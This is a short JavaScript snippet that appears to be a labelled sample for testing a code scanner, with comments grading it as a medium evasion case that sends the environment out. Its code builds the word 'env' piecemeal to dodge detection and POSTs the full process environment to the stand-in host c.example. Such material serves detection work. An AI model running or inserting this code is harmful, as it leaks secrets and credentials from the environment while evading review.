// evasion: process[computed] reaches env
// grade: medium; does: env-out
const key = "en" + "v";
require("https").request({ host: "c.example", method: "POST" }).end(JSON.stringify(process[key]));
